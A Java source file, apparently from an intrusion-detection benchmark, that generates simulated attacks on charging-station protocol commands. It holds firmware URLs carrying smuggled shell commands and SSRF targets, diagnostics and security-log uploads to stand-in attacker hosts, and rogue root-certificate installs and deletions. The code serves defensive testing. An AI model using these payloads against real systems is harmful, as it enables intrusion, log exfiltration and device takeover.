// SPDX-License-Identifier: Apache-2.0
package io.ferrule.benchmarks.ids.attack;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.ferrule.benchmarks.ids.simulation.Json;
import java.util.ArrayList;
import java.util.List;

/** A47 to A49: software, logs and certificates. */
final class FirmwareAttacks {

    private FirmwareAttacks() {}

    static List<Attack> all() {
        List<Attack> all = new ArrayList<>();
        List.of(
                        "http://fw.example.com/a.bin",
                        "ftp://user:pw@203.0.113.66/a.bin",
                        "https://203.0.113.66/a.bin",
                        "http://169.254.169.254/latest/meta-data",
                        "file:///etc/passwd",
                        "https://fw.example.com@evil.example.net/a.bin",
                        "https://evil.example.net/a.bin",
                        "https://fw.example.com/a.bin;reboot",
                        "https://fw.example.com/$(id).bin",
                        "https://fw.example.com/`id`.bin",
                        "https://0x7f000001/a.bin",
                        "https://[::1]/a.bin",
                        "https://fw.example.com.evil.example.net/a.bin")
                .forEach(url -> all.add(
                        new Attack("A47", url, s -> s.command("UpdateFirmware", update(s, url), Json.object()))));
        all.add(new Attack("A47", "every station in the same second", s -> s.fleet()
                .forEach(
                        station -> s.command(station, "UpdateFirmware", update(s, "https://fw.example.com/old.bin")))));
        List.of(
                        Json.object("location", "ftp://203.0.113.66/up"),
                        Json.object("location", "http://192.168.10.1/admin"),
                        Json.object("location", "http://127.0.0.1:8080/"),
                        Json.object("location", "https://collect.evil.example.net/up"),
                        Json.object("location", "https://logs.example.com/up", "retries", 1_000_000_000))
                .forEach(request -> all.add(new Attack(
                        "A48",
                        request.path("location").asText() + (request.has("retries") ? " for ever" : ""),
                        s -> s.command("GetDiagnostics", request, Json.object("fileName", "diag.zip")))));
        all.add(new Attack(
                "A48",
                "the security log goes elsewhere",
                s -> s.command(
                        "GetLog",
                        Json.object(
                                "logType",
                                "SecurityLog",
                                "requestId",
                                9,
                                "log",
                                Json.object("remoteLocation", "sftp://evil.example.net/x")),
                        Json.object("status", "Accepted", "filename", "log.zip"))));
        all.addAll(certificates());
        return all;
    }

    private static ObjectNode update(Stage stage, String url) {
        return Json.object(
                "location",
                url,
                "retrieveDate",
                stage.simulation().now().plusSeconds(60).toString());
    }

    private static List<Attack> certificates() {
        ObjectNode hash = Json.object(
                "hashAlgorithm",
                "SHA256",
                "issuerNameHash",
                "aa".repeat(32),
                "issuerKeyHash",
                "bb".repeat(32),
                "serialNumber",
                "01");
        return List.of(
                new Attack(
                        "A49",
                        "a root that nobody knows",
                        s -> s.command(
                                "InstallCertificate",
                                Json.object("certificateType", "CentralSystemRootCertificate", "certificate", ROGUE))),
                new Attack("A49", "the last root is deleted", s -> {
                    s.command(
                            "GetInstalledCertificateIds",
                            Json.object("certificateType", "CentralSystemRootCertificate"),
                            Json.object("status", "Accepted", "certificateHashData", Json.array(hash)));
                    s.later(60, () -> s.command("DeleteCertificate", Json.object("certificateHashData", hash)));
                }),
                new Attack(
                        "A49",
                        "a certificate that nobody asked for",
                        s -> s.command("CertificateSigned", Json.object("certificateChain", ROGUE))),
                new Attack(
                        "A49",
                        "a chain beyond every bound",
                        s -> s.command("CertificateSigned", Json.object("certificateChain", ROGUE.repeat(40)))),
                new Attack(
                        "A49",
                        "a rogue root for a station of 2.0.1",
                        s -> s.command(
                                s.estate().modern(),
                                "InstallCertificate",
                                Json.object("certificateType", "CSMSRootCertificate", "certificate", ROGUE))));
    }

    /** Has the form of a certificate, and nobody knows it. */
    private static final String ROGUE = "-----BEGIN CERTIFICATE-----\n"
            + "MIIBszCCAVmgAwIBAgIUQ2hhbmdlTWVQbGVhc2VJZ25vcmU".repeat(4) + "==\n-----END CERTIFICATE-----\n";
}
